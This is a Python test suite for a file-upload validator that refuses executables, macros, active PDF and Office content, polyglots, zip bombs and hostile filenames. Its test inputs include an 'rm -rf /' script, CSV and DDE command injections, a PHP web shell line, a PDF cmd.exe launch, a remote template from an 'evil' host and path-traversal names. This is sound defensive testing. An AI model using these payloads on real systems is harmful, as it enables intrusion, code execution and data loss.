"""What a file is by its content, what is refused, and the name that it is kept under."""

import hashlib
import io
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.evidence_files import docx, jpg, part_of, pdf, png, with_parts, xlsx
from zones.files.examined import SUFFIXES, examine
from zones.files.names import clean_name
from zones.files.unfit import MB, Bounds, Unfit

WORKBOOKS = Path(__file__).resolve().parent.parent / "fixtures" / "workbooks"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def refused(name: str, data: bytes, bounds: Bounds | None = None) -> tuple[str, object]:
    """The code of the refusal, and the kind that it names."""
    with pytest.raises(Unfit) as raised:
        examine(name, data, bounds or Bounds())
    return raised.value.code, raised.value.params.get("kind")


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("整改报告.pdf", pdf(), "pdf"),
        ("整改报告.docx", docx(), "docx"),
        ("台账.xlsx", xlsx(), "xlsx"),
        ("图表.xlsx", xlsx(chart=True), "xlsx"),
        ("现场.jpg", jpg(), "jpg"),
        ("现场.JPEG", jpg(trailer=b"\x00preview of a telephone"), "jpg"),
        ("截图.png", png(), "png"),
        ("说明.txt", "情况说明：已完成整改。\r\n".encode("gb18030"), "txt"),
        ("说明.txt", "情况说明".encode("utf-16"), "txt"),
        ("台账.csv", "区,数\r\n宜昌,-3.5\r\n".encode("utf-8-sig"), "csv"),
    ],
)
def test_a_plain_paper_is_kept_as_what_it_is(name, data, kind):
    file = examine(name, data)
    assert (file.kind, file.data, file.size) == (kind, data, len(data))
    assert file.name.lower() == name.lower()
    assert file.sha256 == hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize(
    ("name", "data", "code", "kind"),
    [
        ("report.pdf", PROGRAM, "unknown_kind", "program"),
        ("report.pdf", b"\x7fELF" + b"\x00" * 60, "unknown_kind", "program"),
        ("report.pdf", HTML, "unknown_kind", "html"),
        ("notes.txt", HTML, "unknown_kind", "html"),
        ("notes.txt", b"  \n<SCRIPT src=x>", "unknown_kind", "html"),
        ("drawing.png", SVG, "unknown_kind", "html"),
        ("drawing.svg", SVG, "unknown_kind", "html"),
        ("run.txt", b"#!/bin/sh\nrm -rf /\n", "unknown_kind", "script"),
        ("papers.pdf", b"Rar!\x1a\x07\x00" + b"\x00" * 9, "unknown_kind", "archive"),
        ("noise.txt", bytes(range(256)), "unknown_kind", ""),
        ("film.jpg", b"GIF89a" + b"\x00" * 20, "unknown_kind", "picture"),
        ("empty.pdf", b"", "empty_file", None),
        ("blank.txt", b" \r\n\t ", "empty_file", None),
        ("cut.pdf", pdf()[:-20], "broken_file", None),
        ("cut.png", png()[:-3], "broken_file", None),
        ("cut.jpg", jpg()[:-2], "broken_file", None),
        ("cut.docx", docx()[:-30], "broken_file", None),
        ("cell.csv", b"zone,value\nyichang,=HYPERLINK(A1)\n", "formulas_in_csv", None),
        ("cell.csv", b"zone,value\nyichang,+cmd|' /C calc'!A0\n", "formulas_in_csv", None),
    ],
)
def test_what_is_no_paper_is_refused_whatever_its_name(name, data, code, kind):
    assert refused(name, data) == (code, kind)


@pytest.mark.parametrize(
    ("file", "code"),
    [
        ("macros.xlsm", "has_macros"),
        ("macros-renamed.xlsx", "has_macros"),
        ("macro-type-renamed.xlsx", "has_macros"),
        ("encrypted-zip.xlsx", "protected"),
        ("password.xlsx", "unknown_kind"),
        ("old-format.xls", "unknown_kind"),
        ("entities.xlsx", "active_content"),
        ("open-document.xlsx", "unknown_kind"),
        ("web-page.xls", "unknown_kind"),
    ],
)
def test_office_files_of_other_kinds_are_refused(file, code):
    assert refused("evidence.xlsx", (WORKBOOKS / file).read_bytes())[0] == code


def test_a_word_document_with_macros_is_refused_by_its_part_and_by_its_type():
    named = with_parts(docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    assert refused("notice.docx", named)[0] == "has_macros"
    types = part_of(docx(), "[Content_Types].xml")
    typed = types.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert typed != types
    renamed = with_parts(docx(), {"[Content_Types].xml": typed}, instead=True)
    assert refused("notice.docx", renamed)[0] == "has_macros"


def relations(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATION}{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def test_a_document_may_link_to_a_page_but_loads_no_template_from_elsewhere():
    name = "word/_rels/footnotes.xml.rels"
    linked = with_parts(docx(), {name: relations("hyperlink", "https://www.hubei.gov.cn")})
    assert examine("notice.docx", linked).kind == "docx"
    loading = with_parts(docx(), {name: relations("attachedTemplate", "http://evil/x.dotm")})
    assert refused("notice.docx", loading)[0] == "active_content"


def test_what_is_within_a_document_is_looked_into_as_well():
    name = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"
    assert examine("notice.docx", with_parts(docx(), {name: xlsx()})).kind == "docx"
    macros = (WORKBOOKS / "macros-renamed.xlsx").read_bytes()
    assert refused("notice.docx", with_parts(docx(), {name: macros}))[0] == "has_macros"
    packed = with_parts(docx(), {"word/embeddings/oleObject1.bin": PROGRAM})
    assert refused("notice.docx", packed)[0] == "carries_files"


def test_a_workbook_that_starts_a_program_by_dde_is_refused():
    body = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    started = with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": body})
    assert refused("table.xlsx", started)[0] == "active_content"


def test_bombs_are_refused_before_they_are_unpacked():
    bomb = with_parts(docx(), {"word/media/image1.png": b"\x00" * (3 * MB)})
    assert len(bomb) < MB
    assert refused("notice.docx", bomb, Bounds(unpacked_mb=2))[0] == "unpacks_too_large"
    many = with_parts(docx(), {f"word/media/{n}.png": b"x" for n in range(60)})
    assert refused("notice.docx", many, Bounds(parts=50))[0] == "unpacks_too_large"


def test_a_part_that_unpacks_to_more_than_it_states_is_refused():
    honest = with_parts(docx(), {"word/media/a.png": b"\x00" * 4096})
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        info = archive.getinfo("word/media/a.png")
    stated = (4096).to_bytes(4, "little")
    lying = honest.replace(stated, (16).to_bytes(4, "little"))
    assert info.file_size == 4096
    assert lying != honest
    assert refused("notice.docx", lying)[0] == "broken_file"


@pytest.mark.parametrize(
    "data",
    [png(60_000, 2), jpg(width=50_000), png(30_000, 30_000)],
    ids=["wide png", "wide jpg", "many pixels"],
)
def test_a_picture_that_would_fill_the_memory_is_refused(data):
    assert refused("photo.png", data)[0] == "unpacks_too_large"


@pytest.mark.parametrize(
    "data",
    [
        pdf(javascript="app.alert(1)"),
        pdf(javascript="app.alert(1)").replace(b"/JavaScript", b"/J#61v#61Script"),
        pdf() + b"\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF\n",
    ],
    ids=["script", "escaped name", "program"],
)
def test_a_pdf_that_runs_something_is_refused(data):
    assert refused("report.pdf", data)[0] == "active_content"


def test_a_pdf_hides_nothing_in_its_compressed_objects():
    inner = zlib.compress(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")
    hidden = pdf() + (
        b"\n9 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n"
        % len(inner)
        + inner
        + b"\nendstream\nendobj\n%%EOF\n"
    )
    assert refused("report.pdf", hidden)[0] == "active_content"


def test_a_pdf_with_a_file_within_or_a_password_is_refused():
    assert refused("report.pdf", pdf(attached=PROGRAM))[0] == "carries_files"
    assert refused("report.pdf", pdf(password="secret"))[0] == "protected"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("photo.jpg", jpg(trailer=docx())),
        ("photo.jpg", jpg(comment=b"<?php system($_GET[0]); ?>")),
        ("photo.png", png() + b"<script>alert(1)</script>"),
        ("report.pdf", pdf() + b"<html><script>alert(1)</script>\n%%EOF\n"),
        ("notice.docx", docx() + PROGRAM),
        ("notice.docx", PROGRAM[:0] + docx() + b"\x00"),
    ],
)
def test_two_files_in_one_are_refused(name, data):
    assert refused(name, data)[0] == "hides_another"


def test_a_program_before_a_zip_is_a_program():
    assert refused("notice.docx", PROGRAM + docx()) == ("unknown_kind", "program")


def test_a_file_of_forty_megabytes_is_too_large():
    assert refused("film.txt", b"a" * (40 * MB))[0] == "too_large"
    assert examine("log.txt", b"a" * (20 * MB)).size == 20 * MB


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\某人\\整改报告.pdf", "整改报告.pdf"),
        ("report.exe", "report.exe.pdf"),
        ("report.docx", "report.pdf"),
        ("report.PDF", "report.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ('a";filename="b.pdf', "a_;filename=_b.pdf"),
        ("fdp.\u202eexe.pdf", "fdp.exe.pdf"),
        ("\u200b\u200b.pdf", "evidence.pdf"),
        ("", "evidence.pdf"),
        ("...", "evidence.pdf"),
        ("con.pdf", "_con.pdf"),
        ("COM1.x.pdf", "_COM1.x.pdf"),
        ("<img src=x>.pdf", "_img src=x_.pdf"),
        ("é".encode().decode() + ".pdf", "é.pdf"),
        ("  两  个 空格 .pdf", "两 个 空格.pdf"),
    ],
)
def test_a_hostile_name_becomes_a_plain_one(name, kept):
    assert clean_name(name, ("pdf",)) == kept


@given(st.text(max_size=400), st.sampled_from(sorted(SUFFIXES)))
def test_every_name_is_short_plain_and_stays_what_it_is_when_cleaned_again(name, kind):
    kept = clean_name(name, SUFFIXES[kind])
    assert len(kept) <= 120
    assert len(kept.encode()) <= 200
    assert kept.rpartition(".")[2] in SUFFIXES[kind]
    assert kept.isprintable()
    assert not set('/\\:*?"<>|') & set(kept)
    assert clean_name(kept, SUFFIXES[kind]) == kept
